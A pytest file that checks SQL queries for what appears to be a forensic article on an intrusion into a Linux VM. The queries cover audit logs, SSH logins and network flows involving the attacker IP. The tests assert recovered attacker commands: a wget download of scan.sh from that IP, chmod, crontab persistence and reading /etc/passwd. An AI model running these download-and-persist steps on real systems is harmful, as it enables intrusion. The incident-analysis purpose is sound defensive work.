"""Part 2 of the article: what happened on the Linux host, and who it talked to."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

if TYPE_CHECKING:
    from collections.abc import Callable

    Ask = Callable[[str], list[tuple[Any, ...]]]

C2 = "23.97.60.214"
WINDOW = """
    Computer = 'MSTICAlertsLxVM2'
    and TimeGenerated >= '2019-02-18 13:29:22' and TimeGenerated <= '2019-02-18 16:29:22'"""
LINES = f"""
    with lines as (
        select TimeGenerated, RawData,
               regexp_extract(RawData, '^type=(\\S+)', 1) as kind,
               regexp_extract(RawData, 'msg=audit\\(([^)]+)\\)', 1) as id
        from AuditLog_CL where {WINDOW}),
    messages as (
        select id, any_value(TimeGenerated) as collected, list(kind) as kinds,
               any_value(RawData) filter (kind = 'SYSCALL') as call,
               any_value(RawData) filter (kind = 'EXECVE') as arguments,
               any_value(RawData) filter (kind = 'PROCTITLE') as title
        from lines group by id),
    starts as (select * from messages where call is not null and arguments is not null)"""


def field(name: str, line: str = "RawData") -> str:
    return f"regexp_extract({line}, '[ ]{name}=\"?([^\" ]+)', 1)"


def test_grouped_messages(ask: Ask) -> None:
    assert ask(f"{LINES} select count(*) from messages") == [(17_413,)]
    by_collection = f"{LINES} select count(*) from (select distinct TimeGenerated, id from lines)"
    assert ask(by_collection) == [(17_413,)]


def test_collection_time_and_event_time_agree_on_what_is_in_the_window(ask: Ask) -> None:
    [(inside, lines)] = ask("""
        with dated as (
            select TimeGenerated as collected,
                   to_timestamp(regexp_extract(RawData, 'audit\\((\\d+\\.\\d+)', 1)::double) as happened
            from AuditLog_CL where Computer = 'MSTICAlertsLxVM2')
        select count(*) filter (
                   (collected between '2019-02-18 13:29:22' and '2019-02-18 16:29:22')
                   = (happened between '2019-02-18 13:29:22' and '2019-02-18 16:29:22')),
               count(*)
        from dated""")
    assert inside == lines


def test_process_starts(ask: Ask) -> None:
    assert ask(f"{LINES} select count(*) from starts") == [(13_046,)]


def test_process_starts_follow_few_patterns(ask: Ask) -> None:
    patterns = ask(f"""{LINES}
        select {field("exe", "call")}, regexp_extract(arguments, 'argc=.*', 0), {field("uid", "call")}, count(*)
        from starts group by 1, 2, 3 order by 4 desc""")
    assert len(patterns) == 138
    assert sum(int(str(row[3])) for row in patterns[:5]) > 9_000  # a few housekeeping jobs are almost all


def test_hexadecimal_arguments_say_what_the_title_says(ask: Ask) -> None:
    rows = ask(f"""{LINES}
        select distinct regexp_extract(arguments, 'argc=3 a0="/bin/sh" a1="-c" a2=([0-9A-F]+)', 1) as argument,
               regexp_extract(title, 'proctitle=([0-9A-F]+)', 1)
        from starts where argument != ''""")
    assert len(rows) >= 6
    for argument, title in rows:
        command = bytes.fromhex(str(argument)).decode()
        assert bytes.fromhex(str(title)).decode().split("\0") == ["/bin/sh", "-c", command]


def test_logins(ask: Ask) -> None:
    joined = f"""{LINES},
        login as (select id, {field("pid")} as pid, {field("uid")} as uid, {field("old-ses")} as before,
                         {field("ses")} as session from lines where kind = 'LOGIN'),
        credential as (select {field("pid")} as pid, {field("uid")} as uid, {field("ses")} as session,
                              {field("addr")} as address, {field("acct")} as account, {field("exe")} as exe
                       from lines where kind = 'CRED_ACQ')
        select split_part(login.id, ':', 1), pid, login.session, account, exe, address
        from login join credential using (pid, uid) where login.before = credential.session"""
    rows = ask(joined)
    assert len(rows) == 269
    assert [row for row in rows if row[-1] != "?"] == [
        ("1550503760.115", "24851", "196045", "dbadmin", "/usr/sbin/sshd", C2),  # 2019-02-18 15:29:20.115
    ]


def test_the_session_looks_around_downloads_and_stays(ask: Ask) -> None:
    rows = ask(f"""{LINES}
        select regexp_extract(title, 'proctitle=([0-9A-F]+)', 1), {field("pid", "call")}, {field("ppid", "call")}
        from starts where call like '% ses=196045 %' order by split_part(id, ':', 2)::int""")
    commands = [bytes.fromhex(str(row[0])).decode().replace("\0", " ") for row in rows]
    assert f"wget http://{C2}/a7f3/scan.sh -t 3 -T 5" in commands
    steps = [
        "uname -a",
        "cat /etc/passwd",
        "mail -H",
        "wget",
        "chmod +x scan.sh",
        "/bin/sh -c (crontab -l",
        "crontab -",
    ]
    places = [next(n for n, command in enumerate(commands) if command.startswith(step)) for step in steps]
    assert places == sorted(places)


def test_the_alert_and_the_audit_log_tell_of_the_same_process(ask: Ask) -> None:
    [(pid, parent, session)] = ask(f"""{LINES}
        select {field("pid", "call")}::int, {field("ppid", "call")}::int, {field("ses", "call")}::int
        from starts where arguments like '%a0="wget"%'""")
    [(entities,)] = ask(
        "select Entities from SecurityAlert where AlertSeverity = 'High' and AlertName like '%download'"
    )
    assert all(hex(number) in str(entities) for number in (pid, parent, session))
    [(shells,)] = ask(f"""{LINES} select count(*) from starts
        where call like '% pid={parent} %' and call like '%comm="bash"%' and call like '% ses=196045 %'""")
    assert shells == 1


FLOWS = "select FlowStartTime_t::varchar, FlowEndTime_t::varchar, SrcIP_s, DestIP_s, L7Protocol_s"


def test_flows_around_the_alert(ask: Ask) -> None:
    near = (
        "FlowStartTime_t >= '2019-02-18 05:29:22' and FlowEndTime_t <= '2019-02-18 20:29:22' and SubType_s = 'FlowLog'"
    )
    inward = ask(
        f"{FLOWS} from AzureNetworkAnalytics_CL where {near} and FlowDirection_s = 'I' and L7Protocol_s = 'ssh'"
    )
    assert inward == [("2019-02-18 15:29:18+00", "2019-02-18 15:29:18+00", C2, "10.0.3.4", "ssh")]
    outward = ask(f"{FLOWS} from AzureNetworkAnalytics_CL where {near} and DestIP_s = '{C2}'")
    assert outward == [("2019-02-18 15:29:22+00", "2019-02-18 15:29:38+00", "10.0.3.4", C2, "http")]
    [(denied,)] = ask(f"""
        select count(*) from AzureNetworkAnalytics_CL
        where {near} and DeniedInFlows_d > 0 and '10.0.3.4' in (VMIP_s, DestIP_s)""")
    assert denied > 50


def test_flows_with_the_attacker(ask: Ask) -> None:
    flows = ask(f"""
        select strftime(FlowStartTime_t, '%d %H:%M'), L7Protocol_s, if(SrcIP_s = '{C2}', DestIP_s, SrcIP_s)
        from AzureNetworkAnalytics_CL where SubType_s = 'FlowLog' and '{C2}' in (SrcIP_s, DestIP_s) order by 1, 2""")
    ssh = [("16 " + clock, "ssh", "10.0.3.4") for clock in ("04:35", "07:35", "10:35", "13:35", "16:35", "19:35")]
    assert [flow for flow in flows if str(flow[0]) > "16 04"] == [
        *ssh,
        ("18 15:29", "http", "10.0.3.4"),
        ("18 15:29", "ssh", "10.0.3.4"),
    ]
    second = [flow for flow in flows if flow[2] == "10.0.3.5"]
    assert [flow[0] for flow in second] == ["16 03:07", "16 03:10", "16 03:24"]
    assert {flow[1] for flow in second} == {"ms-wbt-server"}


@pytest.mark.parametrize(
    ("host", "private", "public"),
    [("msticalertslxvm2", "10.0.3.4", "104.211.30.1"), ("msticalertswin1", "10.0.3.5", "40.76.43.124")],
)
def test_addresses_of_the_hosts(ask: Ask, host: str, private: str, public: str) -> None:
    network = ask(f"""
        select distinct PrivateIPAddresses_s, PublicIPAddresses_s from AzureNetworkAnalytics_CL
        where ResourceType = 'NetworkInterface' and VirtualMachine_s like '%/{host}'""")
    assert network == [(private, public)]
    assert ask(f"select distinct ComputerIP from Heartbeat where lower(Computer) = '{host}'") == [(public,)]


def test_the_linux_hosts_system(ask: Ask) -> None:
    system = ask("""
        select distinct OSType, OSName, OSMajorVersion, OSMinorVersion, RemoteIPCountry
        from Heartbeat where Computer = 'MSTICAlertsLxVM2'""")
    assert system == [("Linux", "Ubuntu", "18", "04", "United States")]
